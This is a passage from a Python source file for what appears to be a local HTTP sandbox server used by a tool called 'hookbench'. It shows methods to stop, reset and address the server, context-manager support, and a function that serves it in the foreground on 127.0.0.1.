            return
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()
        self._server = self._thread = None

    def reset(self) -> None:
        """Restore the initial subscribers and forget sent e-mails."""
        self.state.reset()

    @property
    def base_url(self) -> str:
        """e.g. "http://127.0.0.1:54321"; only while running."""
        if self._server is None:
            raise RuntimeError("the sandbox is not running; call start() first")
        return f"http://{self.host}:{self._server.server_port}"

    def __enter__(self) -> Sandbox:
        return self.start()

    def __exit__(self, *exc_info: object) -> None:
        self.stop()


def serve_forever(port: int = 0) -> None:
    """Serve in the foreground (`hookbench sandbox --port N`) until Ctrl-C."""
    with _Server(("127.0.0.1", port), SandboxState()) as server:
        print(f"hookbench sandbox listening on http://127.0.0.1:{server.server_port}", flush=True)
        with contextlib.suppress(KeyboardInterrupt):
            server.serve_forever()
